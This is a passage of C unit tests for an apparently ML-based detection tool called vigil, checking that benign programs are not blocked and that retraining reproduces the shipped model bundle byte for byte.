	struct vg_ml_cloud_facts first_sight = { 1, 0, 1 }; /* one endpoint, this second, a pair never seen */
	vg_json_doc_init(&d);
	for (size_t i = 0; i < sizeof(fresh_programs) / sizeof(*fresh_programs); i++) {
		struct vg_ml_verdict v;
		ASSERT_EQ(flatten(&d, fresh_programs[i]), 0);
		vg_ml_score(b, &d, &first_sight, NULL, &v);
		if (v.decision == VG_ML_BLOCK)
			VG_FAIL_("fresh program %zu blocked: trees %.3f linear %.3f prevalence %.3f ensemble %.3f", i,
				 v.score_trees, v.score_linear, v.score_prevalence, v.score);
	}
	vg_json_doc_free(&d);
	vg_ml_bundle_free(b);
}

TEST(ml_make_model_rebuilds_the_shipped_bundle_byte_identically)
{
	char dir[] = "/tmp/vigil-ml-XXXXXX", out[160], cmd[1024];
	char *text = NULL;
	ASSERT_TRUE(mkdtemp(dir) != NULL);
	snprintf(out, sizeof(out), "%s/model.bundle", dir);
	/* the command `make model` runs */
	snprintf(cmd, sizeof(cmd),
		 "%s/vigil train --seed 1 -q -o %s " VIGIL_SOURCE_DIR "/data/corpus/linux.jsonl " VIGIL_SOURCE_DIR
		 "/data/corpus/windows.jsonl 2>&1; echo rc=$?",
		 vg_test_build_dir(), out);
	ASSERT_EQ(vg_test_run(cmd, &text), 0);
	if (!strstr(text, "rc=0") && !strstr(text, "rc=1"))
		VG_FAIL_("vigil train failed:\n%s", text);
	free(text);
	size_t la, lb;
	char *a = vg_read_file(out, &la), *b = vg_read_file(SHIPPED_BUNDLE, &lb);
	ASSERT_TRUE(a && b);
	if (la != lb || memcmp(a, b, la))
		VG_FAIL_("models/vigil-model.bundle is not what `make model` builds from the committed corpus (%zu vs %zu bytes): "
			 "run make model",
			 lb, la);
	free(a);
	free(b);
	unlink(out);
	rmdir(dir);
}
